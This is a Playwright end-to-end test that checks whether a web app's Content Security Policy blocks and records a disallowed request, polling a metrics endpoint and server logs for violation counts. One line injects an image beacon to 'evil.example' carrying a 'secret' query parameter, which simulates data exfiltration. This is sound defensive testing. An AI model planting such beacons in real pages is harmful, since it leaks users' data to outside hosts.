import { test } from '@playwright/test';
import { startWebServer } from '/work/main/tests/e2e/faultySite';
import { freePort } from '/work/main/scripts/freePort.mjs';
test('csp', async ({ page }) => {
  test.setTimeout(200000);
  const metricsPort = String(await freePort());
  const web = await startWebServer(`http://127.0.0.1:${process.env.E2E_SANDBOX_PORT}`, { METRICS_PORT: metricsPort, LOG_LEVEL: 'info' });
  await page.goto(web.url);
  await page.evaluate(() => { const i = new Image(); i.src = 'https://evil.example/x.png?secret=1'; document.body.append(i); });
  for (let n=0;n<12;n++) { await page.waitForTimeout(10000); const t = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text(); const l = t.split('\n').filter(x=>/csp|policy/.test(x) && !x.startsWith('#')); console.log(n*10+10, l.join(' | ')); if (l.some(x=>/ [1-9]/.test(x))) break; }
  console.log(web.logged.filter(l=>/policy|csp/i.test(l)).join('').slice(0,600));
  await web.close();
});
